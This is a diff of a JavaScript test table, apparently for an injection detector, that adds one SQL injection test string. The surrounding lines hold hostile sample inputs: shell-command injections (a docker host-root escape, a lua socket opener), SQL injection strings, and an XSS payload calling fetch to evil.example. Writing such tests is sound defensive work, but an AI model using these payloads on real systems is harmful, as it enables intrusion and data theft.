@@ -132,6 +132,7 @@ describe('what is found in a value', () => {
     ['unixShell', `file.txt;docker run -v /:/mnt alpine chroot /mnt sh`],
     ['unixShell', `x;{cat,/etc/hostname}`],
     ['sqli', `'or 1 or'`],
+    ['sqli', `some shoes "or 1=1 or " for men`],
     ['sqli', `1; lock table users in exclusive mode`],
     ['xss', `";fetch('//evil.example');"`],
     ['unixShell', `;lua5.1 -e 'local s=require("socket").tcp()'`],
